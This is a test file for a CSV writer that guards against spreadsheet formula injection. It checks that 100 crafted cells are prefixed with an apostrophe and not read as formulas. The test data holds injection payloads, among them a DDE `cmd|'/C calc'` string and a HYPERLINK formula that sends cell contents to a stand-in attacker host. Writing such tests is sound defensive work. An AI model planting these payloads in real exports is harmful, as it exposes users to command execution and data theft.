import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

/** A strict reader of RFC 4180, written apart from the writer: throws on anything that a spreadsheet could read in two ways. */
function parse(document: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < document.length) {
    const cell = document[at] === '"' ? /"((?:[^"]|"")*)"/y : /[^",\r\n]*/y;
    cell.lastIndex = at;
    const match = cell.exec(document);
    if (!match) throw new Error(`broken cell at ${at}`);
    row.push((match[1] ?? match[0]).replaceAll('""', '"'));
    at += match[0].length;
    if (document.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else if (document[at] === ',') at += 1;
    else throw new Error(`broken separator at ${at}`);
  }
  if (row.length > 0) throw new Error('no line end at the end');
  return rows;
}

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  ' =',
  '\u00a0@',
  '\ufeff=',
  '\u200b+',
  '\r\n=',
  '\t-',
  '  \uff1d',
  '\u2060=',
  '\u200e=',
];
const bodies = ['1+1', "cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"open")', 'a,b;c', '"quoted"\r\n=2'];
const hostile = starts.flatMap((start) => bodies.map((body) => start + body));

/** What a spreadsheet takes for a formula, told without the rule under test: first visible character of the cell. */
const isFormula = (cell: string) => {
  const first = cell.normalize('NFKC').replace(/^[\s\u200b-\u200f\u2060\ufeff]+/u, '')[0] ?? '';
  return '=+-@'.includes(first) && first !== '';
};

/** The cells that a spreadsheet makes of a written one when its locale separates by other signs, whatever it does with quotes. */
const piecesOf = (cell: string) => cell.split(/[;\t|\r\n]/).map((piece) => piece.replaceAll('"', ''));

describe('toCsv', () => {
  it.each([';', '\t', '|', '\n', '\r\n', '; ', ';\u200b', ';\ufeff\u00a0', ';"', ';\t', '||'])(
    'lets no formula begin behind %j in a cell',
    (between) => {
      for (const sign of ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']) {
        const cell = `x${between}${sign}1+cmd|' /C calc'!A0`;
        const written = toCsv(['A', 'B'], [['y', cell]])
          .split('\r\n')
          .slice(1)
          .join('\r\n');
        expect(piecesOf(written).filter(isFormula)).toEqual([]);
        expect(parse(written)[0]?.[1]?.replaceAll("'", '')).toBe(cell.replaceAll("'", ''));
      }
    },
  );

  it('leaves a cell as it is where nothing behind a separator is a formula', () => {
    expect(toCsv(['A'], [['a;b|c - d;1=2']])).toBe('A\r\na;b|c - d;1=2\r\n');
  });

  it('lets none of 100 hostile cells be a formula, and changes nothing in them but apostrophes', () => {
    expect(hostile).toHaveLength(100);
    const read = parse(
      toCsv(
        ['Cell'],
        hostile.map((cell) => [cell]),
      ),
    ).slice(1);
    const plain = (cell: string) => cell.replaceAll("'", '');
    expect(read.flat().map(plain)).toEqual(hostile.map(plain));
    expect(read.flat().every((cell) => cell.startsWith("'"))).toBe(true);
    expect(read.flat().flatMap(piecesOf).filter(isFormula)).toEqual([]);
    expect(hostile.filter(isFormula).length).toBeGreaterThan(80);
  });

  it('guards the header as it guards the rows', () => {
    expect(toCsv(['=A1'], [])).toBe("'=A1\r\n");
  });

  it('ends every line with CRLF and quotes only where the text needs it', () => {
    expect(
      toCsv(
        ['Name', 'Note'],
        [
          ['Contoso, Ltd', 'says "no"'],
          ['plain', 'two\nlines'],
        ],
      ),
    ).toBe('Name,Note\r\n"Contoso, Ltd","says ""no"""\r\nplain,"two\nlines"\r\n');
  });

  it('gives back ordinary text, numbers, truth values and empty cells unchanged', () => {
    const rows = parse(
      toCsv(
        ['A', 'B', 'C', 'D'],
        [
          ['Müller & Söhne', -5, true, null],
          ["it's", 0.5, false, ''],
        ],
      ),
    );
    expect(rows.slice(1)).toEqual([
      ['Müller & Söhne', '-5', 'true', ''],
      ["it's", '0.5', 'false', ''],
    ]);
  });
});
